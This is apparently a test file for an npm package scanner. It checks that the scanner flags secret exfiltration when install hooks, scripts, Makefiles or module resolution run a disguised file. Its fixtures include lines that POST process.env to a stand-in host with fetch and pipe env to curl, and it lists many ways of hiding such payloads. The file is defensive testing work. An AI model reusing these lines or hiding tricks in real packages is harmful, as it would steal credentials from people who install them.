import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import type { ContentFacts } from '../../src/model/fact.ts'
import { packedReading } from './python-reading.ts'

const SENDS = `fetch('https://c.example/', { method: 'POST', body: JSON.stringify(process.env) })\n`
const IMPORTS = `import './inner.txt'\n`

type Files = Readonly<Record<string, string>>

async function inspected(manifest: object, files: Files): Promise<ContentFacts> {
  const all = { 'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', ...manifest }), ...files }
  return inspect(await packedReading('npm-tarball', all), { digest: sha256('x'), readAs: 'npm-tarball' })
}

/** Ways in which a hook runs a file of the package; `files` besides the one that sends. */
const HOOKS: readonly (readonly [command: string, sends: string, files?: Files])[] = [
  ['node p.txt', 'p.txt'],
  ['node p', 'p/q.txt', { 'p/package.json': '{"main":"q.txt"}' }],
  ['node ./p/', 'p/index.js'],
  ['node .', 'start.dat'],
  ['node -r ./p.txt -e 1', 'p.txt'],
  ['node --require=./p.txt -e "1"', 'p.txt'],
  ['node --import ./p.txt -e 1', 'p.txt'],
  ['node -r ./a.js -r ./p.txt -e 1', 'p.txt', { 'a.js': '' }],
  ['node -r ./a.js -r ./p.txt b.js', 'p.txt', { 'a.js': '', 'b.js': '' }],
  ['node --env-file=.env b.js', 'p.txt', { '.env': 'NODE_OPTIONS="--require ./p.txt"\n', 'b.js': '' }],
  ['node --env-file .env -e 1', 'p.txt', { '.env': 'NODE_OPTIONS=--require=./p.txt\n' }],
  ['. ./x', 'p.txt', { x: 'node p.txt\n' }],
  ['source x', 'p.txt', { x: 'node p.txt\n' }],
  ['. ./x.txt', 'p.txt', { 'x.txt': 'node p.txt\n' }],
  ['sh x.sh', 'p.txt', { 'x.sh': '. ./y\n', y: 'node p.txt\n' }],
  ['bash ./x', 'p.txt', { x: 'node p.txt\n' }],
  ['./x', 'p.txt', { x: '#!/bin/sh\nnode p.txt\n' }],
  ['./x', 'p.txt', { x: 'node p.txt\n' }],
  ['./x.bin', 'p.txt', { 'x.bin': '#!/bin/sh\nnode p.txt\n' }],
  ['./x.cfg', 'x.cfg', {}],
  ['npm exec -c "node p.txt"', 'p.txt'],
  ["npx --call='node p.txt'", 'p.txt'],
  ['npx ./p.js', 'p.js'],
  ['cd sub && npm install', 'sub/p.txt', { 'sub/package.json': '{"scripts":{"postinstall":"node p.txt"}}' }],
  ['cd ./sub; npm ci', 'sub/p.txt', { 'sub/package.json': '{"scripts":{"prepare":"node p.txt"}}' }],
  ['npm --prefix sub install', 'sub/p.txt', { 'sub/package.json': '{"scripts":{"install":"node p.txt"}}' }],
  ['npm --prefix sub run x', 'sub/p.txt', { 'sub/package.json': '{"scripts":{"x":"node p.txt"}}' }],
  ['npm run --prefix=sub x', 'sub/p.txt', { 'sub/package.json': '{"scripts":{"prex":"node p.txt","x":"echo"}}' }],
  ['yarn --cwd sub', 'sub/p.txt', { 'sub/package.json': '{"scripts":{"postinstall":"node p.txt"}}' }],
  ['pnpm -C sub install', 'sub/p.txt', { 'sub/package.json': '{"scripts":{"postinstall":"node p.txt"}}' }],
  ['npm install ./sub', 'sub/p.txt', { 'sub/package.json': '{"scripts":{"postinstall":"node p.txt"}}' }],
  ['npm install', 'p.txt', {}],
  ['make', 'p.txt', { Makefile: 'all:\n\tnode p.txt\n' }],
  ['make -C sub', 'sub/p.txt', { 'sub/Makefile': 'all:\n\tnode p.txt\n' }],
  ['make -f x.mk', 'p.txt', { 'x.mk': 'all:\n\tnode p.txt\n' }],
  ['node x.js', 'sub/d.txt', { 'x.js': 'require("./sub")', 'sub/package.json': '{"main":"d.txt"}' }],
  ['node x.js', 'LICENSE', { 'x.js': 'require("./LICENSE")' }],
  ['node x.js', 'h.dat', { 'x.js': 'require("#h")' }],
  ['node x.js', 'inside.dat', { 'x.js': 'require("sample/inside")' }],
  ['node x.js', 'p.txt', { 'x.js': 'require("child_process").execSync("npm run later")' }],
  [
    'node x.js',
    'sub/p.txt',
    {
      'x.js': 'require("child_process").execSync("npm install", { cwd: "sub" })',
      'sub/package.json': '{"scripts":{"postinstall":"node p.txt"}}',
    },
  ],
]

t.test('what a hook runs is read, by whatever name and way', async (t) => {
  for (const [command, sends, files = {}] of HOOKS) {
    const facts = await inspected(
      {
        main: 'start.dat',
        imports: { '#h': './h.dat' },
        exports: { '.': './start.dat', './inside': './inside.dat' },
        scripts: { postinstall: command, later: 'node p.txt', prepare: 'node p.txt' },
      },
      { [sends]: sends === 'x.cfg' ? 'env | curl -d @- https://c.example' : SENDS, ...files },
    )
    const found = facts.findings.filter(({ check }) => check === 'secrets-exfiltration')
    t.ok(
      found.some(({ severity }) => severity === 'critical'),
      `${command} (${Object.keys(files).join(', ')}): ${facts.surface.map(({ path, moment }) => `${moment} ${path}`).join(', ')}`,
    )
  }
})

/** Ways in which an import runs a file of the package. */
const IMPORTED: readonly (readonly [situation: string, manifest: object, sends: string, files?: Files])[] = [
  ['main with an extension of data', { main: 'payload.txt' }, 'payload.txt'],
  ['main without one', { main: 'core' }, 'core'],
  ['main in a folder', { main: 'lib/core.dat' }, 'lib/core.dat'],
  ['main is a folder', { main: 'lib' }, 'lib/index.js'],
  ['main is a folder with a manifest', { main: './lib' }, 'lib/q.txt', { 'lib/package.json': '{"main":"q.txt"}' }],
  ['main with JSX’s extension', { main: 'core.jsx' }, 'core.jsx'],
  ['nothing said', {}, 'index.js'],
  ['main that is not there', { main: 'gone.js' }, 'index.js'],
  ['exports', { exports: './x.bin' }, 'x.bin'],
  ['a condition of exports', { exports: { '.': { import: './a.mjs', require: './b.dat' } } }, 'b.dat', { 'a.mjs': '' }],
  ['a list in exports', { exports: [{ node: ['./c.dat'] }] }, 'c.dat'],
  ['a module for browsers', { main: 'a.js', browser: { './a.js': './b.txt' } }, 'b.txt', { 'a.js': '' }],
  ['a required licence', {}, 'LICENSE', { 'index.js': 'require("./LICENSE")' }],
  ['a required style sheet', {}, 'a.css', { 'index.js': 'require("./a.css")' }],
  ['imports', { imports: { '#x': { node: './x.dat' } } }, 'x.dat', { 'index.js': 'require("#x")' }],
  ['imports by a pattern', { imports: { '#in/*': './in/*.dat' } }, 'in/x.dat', { 'index.js': 'require("#in/x")' }],
  [
    'its own name',
    { exports: { '.': './index.js', './y': './y.dat' } },
    'y.dat',
    { 'index.js': 'require("sample/y")' },
  ],
  [
    'a bundled package',
    {},
    'node_modules/in/m.txt',
    {
      'index.js': 'require("in")',
      'node_modules/in/package.json': '{"name":"in","version":"1.0.0","main":"m.txt"}',
    },
  ],
  ['an import of a module', { type: 'module' }, 'inner.txt', { 'index.js': IMPORTS }],
  ['700 kB of comment before it', {}, 'index.js'],
]

t.test('what an import runs is read, by whatever name and way', async (t) => {
  for (const [situation, manifest, sends, files = {}] of IMPORTED) {
    const text = situation.startsWith('700') ? `//${'A'.repeat(700_000)}\n${SENDS}` : SENDS
    const { findings, surface } = await inspected(manifest, { [sends]: text, ...files })
    const found = findings.find(({ check }) => check === 'secrets-exfiltration')
    t.match(found, { confidence: 'high' }, `${situation}: ${surface.map(({ path }) => path).join(', ')}`)
    t.ok(
      surface.some(({ path, moment }) => path === sends && moment === 'import'),
      situation,
    )
  }
})
